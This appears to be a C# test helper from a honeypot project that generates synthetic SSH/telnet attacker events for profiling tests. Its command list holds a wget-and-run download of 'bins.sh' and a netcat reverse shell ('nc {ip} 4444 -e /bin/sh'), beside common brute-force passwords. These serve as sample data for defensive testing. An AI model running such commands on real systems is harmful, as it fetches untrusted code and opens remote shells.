using Decnet.Engine.Ingest;

namespace Decnet.Tests.Profiler;

/// <summary>
/// Seeded generator of realistic-looking events, shaped after the Cowrie sample in ../shared/data (26 days, 562 IPs,
/// mostly connects/closes/client versions/failed logins, some direct-tcpip, a few commands and downloads).
/// </summary>
public sealed class SyntheticEvents(int seed)
{
    private readonly Random _random = new(seed);
    private long _nextId;
    private static readonly DateTimeOffset Start = new(2018, 5, 6, 17, 44, 5, TimeSpan.Zero);

    private static readonly string[] Users = ["root", "admin", "user", "test", "oracle", "pi", "ubuntu", "support", "guest", "ftp"];
    private static readonly string[] Passwords = ["123456", "password", "admin", "root", "1234", "12345678", "qwerty", "toor", "raspberry", "letmein",
        "Passw0rd", "admin123", "111111", "abc123", "changeme", "ubnt", "default", "p@ssw0rd", "пароль", "密码"];
    private static readonly string[] Commands = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp; wget http://{ip}/bins.sh; sh bins.sh",
        "echo -e '\\x41\\x4b\\x34\\x37'", "free -m", "ls -la /tmp/{n}", "nc {ip} 4444 -e /bin/sh", "w"];
    private static readonly string[] Versions = ["SSH-2.0-libssh2_1.4.3", "SSH-2.0-Go", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-PUTTY", "SSH-2.0-paramiko_2.4.1"];
    private static readonly string[] Deckies = ["decky-01", "decky-02", "decky-03", "decky-04"];

    // The seed goes into the id so two generators never mint the same ids.
    public string NewId() => ((uint)seed).ToString("x8") + (++_nextId).ToString("x24");

    /// <summary>
    /// <paramref name="count"/> events over <paramref name="ipCount"/> IPs shaped like the real sample: IP popularity
    /// Zipf-like (the busiest IP sends ~20%), each IP active in its own short window, so a batch of 7k events touches
    /// ~150 IPs as the real data does. Arrival order is time order with ±30 s jitter (out of order).
    /// </summary>
    public List<DecnetEvent> Generate(int count, int ipCount, TimeSpan span)
    {
        var ips = NewIps(ipCount);
        var cumulative = new double[ipCount];
        var total = 0.0;
        for (var i = 0; i < ipCount; i++) cumulative[i] = total += 1 / Math.Pow(i + 1, 1.2);
        var windows = new (double Start, double Length)[ipCount];
        for (var i = 0; i < ipCount; i++)
            windows[i] = (_random.NextDouble() * 0.95, Math.Min(1, -Math.Log(1 - _random.NextDouble()) * 0.03));
        var picks = new List<(double At, int Ip)>(count);
        for (var n = 0; n < count; n++)
        {
            var i = Array.BinarySearch(cumulative, _random.NextDouble() * total);
            if (i < 0) i = Math.Min(~i, ipCount - 1);
            picks.Add((Math.Min(1, windows[i].Start + _random.NextDouble() * windows[i].Length), i));
        }
        picks.Sort((a, b) => a.At.CompareTo(b.At));
        var sessions = new Dictionary<int, (string Id, int Left)>();
        var events = new List<DecnetEvent>(count);
        foreach (var (at, ip) in picks)
        {
            if (!sessions.TryGetValue(ip, out var s) || s.Left <= 0) s = (_random.NextInt64().ToString("x12")[..12], _random.Next(2, 12));
            sessions[ip] = s with { Left = s.Left - 1 };
            events.Add(Event(ips[ip], s.Id, Start + span * at + TimeSpan.FromSeconds(_random.Next(-30, 30)) + TimeSpan.FromTicks(_random.Next(10_000))));
        }
        return events;
    }

    /// <summary>Worst case for the write path: every IP active all the time, so every batch touches nearly every IP.</summary>
    public List<DecnetEvent> GenerateUniform(int count, int ipCount, TimeSpan span)
    {
        var ips = NewIps(ipCount);
        var events = new List<DecnetEvent>(count);
        var sessions = new Dictionary<string, (string Id, int Left)>();
        for (var i = 0; i < count; i++)
        {
            var u = _random.NextDouble();
            var ip = ips[(int)(u * u * ipCount)];
            if (!sessions.TryGetValue(ip, out var s) || s.Left <= 0) s = (_random.NextInt64().ToString("x12")[..12], _random.Next(2, 12));
            sessions[ip] = s with { Left = s.Left - 1 };
            var at = Start + span * ((double)i / count) + TimeSpan.FromSeconds(_random.Next(-30, 30)) + TimeSpan.FromTicks(_random.Next(10_000));
            events.Add(Event(ip, s.Id, at));
        }
        return events;
    }

    private string[] NewIps(int ipCount)
    {
        var ips = new HashSet<string>();
        while (ips.Count < ipCount) ips.Add($"{_random.Next(1, 224)}.{_random.Next(256)}.{_random.Next(256)}.{_random.Next(1, 255)}");
        return [.. ips];
    }

    public DecnetEvent Event(string ip, string? session, DateTimeOffset at)
    {
        var roll = _random.Next(100);
        var e = new DecnetEvent
        {
            Id = NewId(), Timestamp = at, Event = EventTypes.SessionConnect, SrcIp = ip, SrcPort = _random.Next(1024, 65535),
            Service = _random.Next(10) == 0 ? "telnet" : "ssh", Decky = Deckies[_random.Next(Deckies.Length)], Session = session,
        };
        return roll switch
        {
            < 23 => e,
            < 46 => e with { Event = EventTypes.SessionClosed },
            < 66 => e with
            {
                Event = EventTypes.ClientVersion, SshVersion = Versions[_random.Next(Versions.Length)],
                Hassh = _random.Next(3).ToString("x32"),
            },
            < 82 => e with { Event = EventTypes.LoginFailed, Username = Users[_random.Next(Users.Length)], Password = Passwords[_random.Next(Passwords.Length)] },
            < 84 => e with { Event = EventTypes.LoginSuccess, Username = "root", Password = Passwords[_random.Next(4)] },
            < 97 => e with { Event = EventTypes.DirectTcpip, DstHost = _random.Next(2) == 0 ? "ya.ru" : "2001:db8::" + _random.Next(9), DstPort = 443 },
            < 99 => e with
            {
                Event = EventTypes.CommandInput,
                Command = Commands[_random.Next(Commands.Length)].Replace("{ip}", $"10.0.{_random.Next(256)}.{_random.Next(256)}").Replace("{n}", _random.Next(1000, 99999).ToString()),
            },
            _ => e with { Event = EventTypes.FileDownload, Url = $"http://10.1.1.{_random.Next(256)}/bins.sh", Sha256 = _random.Next(4).ToString("x64") },
        };
    }
}
